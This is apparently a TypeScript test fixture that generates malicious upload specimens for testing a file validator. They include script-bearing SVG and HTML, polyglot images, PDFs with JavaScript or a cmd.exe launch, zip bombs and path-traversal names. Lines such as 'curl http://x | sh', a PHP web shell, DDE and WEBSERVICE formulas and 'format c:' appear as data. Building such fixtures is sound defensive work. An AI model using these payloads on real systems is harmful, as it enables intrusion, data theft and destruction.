/** Files that mean no good. */
import { deflateSync, gzipSync } from "node:zlib";
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import {
  packedObjects,
  rawPdf,
  rawPng,
  rawWorkbook,
  rawZip,
  type Specimen,
  type ZipPart,
} from "./corpus-parts.fixture.ts";
import { pdf, photo } from "./files.fixture.ts";

const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const SCRIPT = "<script>alert(document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const ACTION = "<< /S /JavaScript /JS (app.alert(1)) >>";

type Given = string | Buffer;
const evidence = (what: string, name: string, content: Given, payload?: Given): Specimen => ({
  what,
  as: "evidence",
  name,
  content: Buffer.from(content),
  ...(payload === undefined ? {} : { payload: Buffer.from(payload) }),
});

/** All of them. */
export async function harmfulFiles(): Promise<Specimen[]> {
  const jpeg = await photo(11);
  return [
    ...texts(),
    ...programs(),
    ...(await pictures(jpeg)),
    ...(await documents(jpeg)),
    ...names(jpeg),
    ...archives(jpeg),
    ...workbooks(),
  ];
}

function texts(): Specimen[] {
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SVG, "utf16le")]);
  const html = `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`;
  return [
    evidence("SVG with a script", "a.svg", SVG),
    evidence("SVG called a photograph", "a.jpg", SVG),
    evidence("SVG behind a comment", "b.png", `<?xml version="1.0"?><!-- ${"x".repeat(900)} -->${SVG}`),
    evidence("SVG in UTF-16", "c.jpg", utf16),
    evidence("SVG packed", "a.svgz", gzipSync(SVG)),
    evidence("a web page", "a.html", html),
    evidence("a web page called a PDF", "a.pdf", html),
    evidence("a web page behind spaces", "b.jpg", `${" \n".repeat(500)}${html}`),
    evidence("XHTML", "c.jpg", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
    evidence("a formula for a spreadsheet", "a.csv", `=cmd|'/C calc'!A0,1\n`),
    evidence("plain text called a photograph", "d.jpg", "certificate of nothing"),
    evidence("an empty file", "e.jpg", ""),
  ];
}

function programs(): Specimen[] {
  const exe = Buffer.concat([Buffer.from("MZ\u0090\u0000\u0003", "latin1"), Buffer.alloc(400)]);
  return [
    evidence("a Windows program", "f.jpg", exe),
    evidence(
      "a Linux program",
      "g.jpg",
      Buffer.concat([Buffer.from("\u007fELF\u0002\u0001\u0001"), Buffer.alloc(200)]),
    ),
    evidence("a Mac program", "h.jpg", Buffer.concat([Buffer.from("cffaedfe", "hex"), Buffer.alloc(200)])),
    evidence("a Java class", "i.jpg", Buffer.concat([Buffer.from("cafebabe00000034", "hex"), Buffer.alloc(100)])),
    evidence("WebAssembly", "j.jpg", Buffer.from("0061736d01000000", "hex")),
    evidence("a shell script", "k.jpg", "#!/bin/sh\ncurl http://x | sh\n"),
    evidence("a batch file", "l.jpg", "@echo off\r\nformat c:\r\n"),
    evidence("PHP", "m.jpg", "<?php system($_GET['c']); ?>"),
    evidence("JavaScript", "n.jpg", "import 'fs';\nfunction x(){}\n"),
    evidence(
      "Word",
      "o.docx",
      rawZip([
        { name: "word/document.xml", content: "<w/>" },
        { name: "[Content_Types].xml", content: "<Types/>" },
      ]),
    ),
    evidence(
      "Word of old, perhaps with macros",
      "p.pdf",
      Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(1_000)]),
    ),
    evidence("rich text", "q.pdf", "{\\rtf1\\ansi {\\object\\objemb x}}"),
    evidence("a zip", "r.jpg", rawZip([{ name: "x.jpg", content: "x" }])),
    evidence("RAR", "s.jpg", Buffer.concat([Buffer.from("526172211a0700", "hex"), Buffer.alloc(50)])),
    evidence("7z", "t.jpg", Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(50)])),
    evidence("a gzip bomb", "u.jpg", gzipSync(Buffer.alloc(50_000_000))),
    evidence("the scanners' test file", "v.jpg", EICAR),
    evidence("a film", "w.jpg", Buffer.concat([Buffer.from("00000018667479706d703432", "hex"), Buffer.alloc(100)])),
  ];
}

async function pictures(jpeg: Buffer): Promise<Specimen[]> {
  const png = await photo(12, { format: "png" });
  const webp = await photo(13, { format: "webp" });
  const after = (picture: Buffer, tail: Given) => Buffer.concat([picture, Buffer.from(tail)]);
  const zip = rawZip([{ name: "x.exe", content: "MZ" }]);
  const php = "<?php system($_GET['c']); ?>";
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, SCRIPT.length + 2]),
    Buffer.from(SCRIPT),
    jpeg.subarray(2),
  ]);
  const inText = rawPng(8, 8, [
    ["tEXt", Buffer.from(`Comment\0${php}`)],
    ["IDAT", deflateSync(Buffer.alloc(16))],
  ]);
  const located = await sharp(jpeg)
    .withExif({ IFD0: { Make: "SPY-CAMERA" }, IFD3: { GPSLatitude: "44/1 18/1 0/1" } })
    .toBuffer();
  const flood = rawPng(50_000, 50_000, [["IDAT", deflateSync(Buffer.alloc(100))]]);
  const real = rawPng(12_000, 12_000, [["IDAT", deflateSync(Buffer.alloc(12_000 * 1_501))]]);
  const moving = rawPng(8, 8, [
    ["acTL", Buffer.from("0000000200000000", "hex")],
    ["IDAT", deflateSync(Buffer.alloc(16))],
  ]);
  const huge = Buffer.from(jpeg);
  const frame = huge.indexOf(Buffer.from([0xff, 0xc0]));
  huge.writeUInt16BE(65_000, frame + 5);
  huge.writeUInt16BE(65_000, frame + 7);
  const frames = Buffer.concat([Buffer.alloc(8 * 8 * 3, 30), Buffer.alloc(8 * 8 * 3, 220)]);
  const gif = Buffer.from("GIF89a=1;alert(1)//");
  const animated = await sharp(frames, { raw: { width: 8, height: 16, channels: 3, pageHeight: 8 } })
    .webp({ loop: 0 })
    .toBuffer();
  return [
    evidence("a photograph that is a zip as well", "1.jpg", after(jpeg, zip), zip),
    evidence("a photograph with a web page behind it", "2.jpg", after(jpeg, SCRIPT), SCRIPT),
    evidence("a photograph with a script in its comment", "3.jpg", comment, SCRIPT),
    evidence("a photograph that tells where it was taken", "4.jpg", located, "SPY-CAMERA"),
    evidence("a picture with PHP in its text", "5.png", inText, php),
    evidence("a picture with a program behind it", "6.png", after(png, "MZ\u0090program"), "MZ\u0090program"),
    evidence("a WebP with a script behind it", "7.webp", after(webp, SCRIPT), SCRIPT),
    evidence("a photograph with a virus behind it", "8.jpg", after(jpeg, EICAR)),
    evidence("a GIF that is JavaScript", "9.gif", gif),
    evidence("2,500 million pixels, as said", "10.png", flood),
    evidence("144 million pixels in some kilobytes", "11.png", real),
    evidence("4,225 million pixels of a photograph", "12.jpg", huge),
    evidence("a PNG that moves", "13.png", moving),
    evidence("a WebP that moves", "14.webp", animated),
    evidence("half a photograph", "15.jpg", jpeg.subarray(0, jpeg.length / 2)),
    evidence(
      "a picture with a broken middle",
      "16.png",
      Buffer.concat([png.subarray(0, 200), Buffer.alloc(300, 7), png.subarray(500)]),
    ),
    evidence("TIFF", "17.jpg", await sharp(jpeg).tiff().toBuffer()),
    evidence("only the beginning of a photograph", "18.jpg", Buffer.from("ffd8ffe000104a464946", "hex")),
  ];
}

/** PDFs that act, carry something or hide it. */
const named = (what: string, given: Buffer): Specimen => evidence(`PDF: ${what}`, "证书.pdf", given);

async function acting(): Promise<Specimen[]> {
  const attached = await PDFDocument.create();
  attached.addPage();
  await attached.attach(Buffer.from("MZ"), "x.exe", { mimeType: "application/octet-stream" });
  const annotation = (body: string) =>
    rawPdf({ page: "/Annots [5 0 R]", objects: [`<< /Type /Annot /Rect [0 0 9 9] ${body} >>`] });
  return [
    named("a script when it opens", rawPdf({ catalog: `/OpenAction ${ACTION}` })),
    named(
      "a script by name",
      rawPdf({ catalog: `/Names << /JavaScript << /Names [(x) 5 0 R] >> >>`, objects: [ACTION] }),
    ),
    named("a script in an object by itself", rawPdf({ catalog: "/OpenAction 5 0 R", objects: [ACTION] })),
    named(
      "an action when the page is seen",
      rawPdf({ page: "/AA << /O 5 0 R >>", objects: ["<< /S /Named /N /NextPage >>"] }),
    ),
    named("starting a program", rawPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" })),
    named("an attached program", Buffer.from(await attached.save())),
    named("an attached program, packed", Buffer.from(await attached.save({ useObjectStreams: false }))),
    named("rich media", annotation("/Subtype /RichMedia /RichMediaContent << >>")),
    named("an attachment on the page", annotation("/Subtype /FileAttachment /FS << /F (x.exe) >>")),
    named("sending a form", annotation("/Subtype /Link /A << /S /SubmitForm /F (http://x) >>")),
    named("opening another file", annotation("/Subtype /Link /A << /S /GoToR /F (//x/y) >>")),
    named(
      "a form that changes",
      rawPdf({
        catalog: "/AcroForm << /XFA 5 0 R /Fields [] >>",
        objects: ["<< /Length 3 >>\nstream\n<x>\nendstream"],
      }),
    ),
    named(
      "encrypted",
      rawPdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> /ID [<00> <00>]" }),
    ),
    named("a disguised name", rawPdf({ catalog: "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>" })),
    named(
      "a script among packed objects",
      rawPdf({ catalog: "/OpenAction 9 0 R", objects: [packedObjects(9, [ACTION])] }),
    ),
  ];
}

async function documents(jpeg: Buffer): Promise<Specimen[]> {
  const plain = await pdf(1);
  const pages = await PDFDocument.create();
  for (let page = 0; page < 51; page++) pages.addPage();
  const zip = rawZip([{ name: "x.exe", content: "MZ" }]);
  const bomb = deflateSync(deflateSync(Buffer.alloc(30_000_000)));
  return [
    ...(await acting()),
    named("an earlier version with a script", Buffer.concat([rawPdf({ objects: [ACTION] }), plain])),
    named("something behind its end", Buffer.concat([plain, Buffer.from(SCRIPT)])),
    evidence("PDF: a photograph before it", "证书.pdf", Buffer.concat([jpeg.subarray(0, 500), plain]), "%PDF-"),
    named("something before its beginning", Buffer.concat([Buffer.from("\n\n"), plain])),
    named("a zip behind it", Buffer.concat([plain, zip])),
    named(
      "a zip within it that ends with it",
      rawPdf({
        objects: [Buffer.concat([Buffer.from("<< >>\nstream\n"), zip.subarray(0, -2), Buffer.from([255, 0])])],
      }),
    ),
    named("a virus in it", rawPdf({ objects: [`(${EICAR})`] })),
    named("51 pages", Buffer.from(await pages.save())),
    named(
      "a page that unpacks to 60 MB",
      rawPdf({ stream: { dictionary: "/Filter /FlateDecode", content: deflateSync(Buffer.alloc(60_000_000)) } }),
    ),
    named(
      "a page packed twice",
      rawPdf({ stream: { dictionary: "/Filter [/FlateDecode /FlateDecode]", content: bomb } }),
    ),
    named("half of it", plain.subarray(0, plain.length / 2)),
    named("its head alone", Buffer.from("%PDF-1.7\n%%EOF\n")),
    named(
      "a web page in its head",
      Buffer.concat([Buffer.from("%PDF-1.7 <script>alert(1)</script>\n"), plain.subarray(9)]),
    ),
  ];
}

function names(jpeg: Buffer): Specimen[] {
  const all: [string, string][] = [
    ["turned around", "证书\u202egpj.exe"],
    ["turned around by a newer sign", "证书\u2067gpj.jpg"],
    ["a sign nobody sees", "证\u200b书.jpg"],
    ["a control character", "证书\u0007.jpg"],
    ["a line break", "证书\r\nSet-Cookie: x.jpg"],
    ["NUL", "证书.php\u0000.jpg"],
    ["half a character", "证书\ud800.jpg"],
    ["longer than 255 bytes", `${"证".repeat(90)}.jpg`],
    ["a path upwards", "../../etc/passwd.jpg"],
    ["a path of Windows", "C:\\Windows\\证书.jpg"],
    ["a program's ending", "证书.jpg.exe"],
    ["a web page's ending", "证书.html"],
    ["a script's ending with a space", "证书.js "],
  ];
  return all.map(([what, name]) => evidence(`a name: ${what}`, name, jpeg));
}

function archives(jpeg: Buffer): Specimen[] {
  const zip = (what: string, parts: readonly ZipPart[], around?: Parameters<typeof rawZip>[1]): Specimen => ({
    what: `zip: ${what}`,
    as: "zip",
    name: "材料.zip",
    content: rawZip(parts, around),
  });
  const good: ZipPart = { name: "张三.jpg", content: jpeg, stored: true };
  const called = (name: string | Buffer): ZipPart => ({ ...good, name });
  return [
    zip("a bomb", [{ name: "x.jpg", content: Buffer.alloc(19_000_000) }]),
    zip("a bomb that says it is small", [{ name: "x.jpg", content: Buffer.alloc(19_000_000), says: { bytes: 1_000 } }]),
    zip("a file smaller than said", [{ ...good, stored: false, says: { bytes: jpeg.length + 9 } }]),
    zip("all files in one place", [
      good,
      ...Array.from({ length: 50 }, (_, at) => ({ ...good, name: `${at}.jpg`, at: 0 })),
    ]),
    zip("a path upwards", [called("../../x.jpg")]),
    zip("a path from the root", [called("/etc/x.jpg")]),
    zip("a path of Windows", [called("..\\x.jpg")]),
    zip("a drive", [called("C:x.jpg")]),
    zip("a link", [{ ...good, content: "/etc/passwd", mode: 0o120777 }]),
    zip("a device", [{ ...good, mode: 0o020666 }]),
    zip("a zip within", [{ name: "x.jpg", content: rawZip([good]), stored: true }]),
    zip("encrypted", [{ ...good, stored: false, flags: 0x801 }]),
    zip(
      "6,000 files",
      Array.from({ length: 6_000 }, (_, at) => ({ name: `${at}.jpg`, content: "x", stored: true })),
    ),
    zip("the same name twice", [good, { ...good, name: "张三.JPG" }]),
    zip("a program", [good, { name: "setup.exe", content: "MZ" }]),
    zip("an SVG", [good, { name: "x.svg", content: SVG }]),
    zip("a name turned around", [called("证书\u202egpj.jpg")]),
    zip("a name that is no text", [called(Buffer.from([0xff, 0xfe, 0x2e, 0x6a, 0x70, 0x67]))]),
    zip("a program before it", [good], { before: Buffer.concat([Buffer.from("MZ"), Buffer.alloc(100)]) }),
    zip("something behind it", [good], { after: Buffer.from("#!/bin/sh") }),
    zip("nothing", []),
  ];
}

function workbooks(): Specimen[] {
  const book = (what: string, content: Buffer): Specimen => ({
    what: `workbook: ${what}`,
    as: "xlsx",
    name: "名单.xlsx",
    content,
  });
  const cell = (formula: string) => rawWorkbook([], `<c r='A1'><f>${formula}</f></c>`);
  return [
    book("with macros", rawWorkbook([{ name: "xl/vbaProject.bin", content: "x" }])),
    book(
      "with macros under another name",
      rawWorkbook([
        { name: "xl/a.xml", content: 'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"' },
      ]),
    ),
    book("with macros of old", rawWorkbook([{ name: "xl/macrosheets/sheet1.xml", content: "<x/>" }])),
    book("encrypted", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(4_000)])),
    book("a formula that runs a command", cell("cmd|' /C calc'!A0")),
    book("a formula that asks the network", cell("WEBSERVICE(&quot;http://x/&quot;&amp;A1)")),
    book("a link to another workbook", rawWorkbook([{ name: "xl/externalLinks/externalLink1.xml", content: "<x/>" }])),
    book("an object within", rawWorkbook([{ name: "xl/embeddings/oleObject1.xml", content: "x" }])),
    book("a bomb", rawWorkbook([{ name: "xl/worksheets/sheet2.xml", content: Buffer.alloc(100_000_000, 32) }])),
    book(
      "entities that multiply",
      rawWorkbook([{ name: "xl/styles.xml", content: '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }]),
    ),
    book("no workbook", rawZip([{ name: "x.txt", content: "x" }])),
    book("a web page", Buffer.from(`<html><table><tr><td>=1</td></tr></table></html>`)),
  ];
}
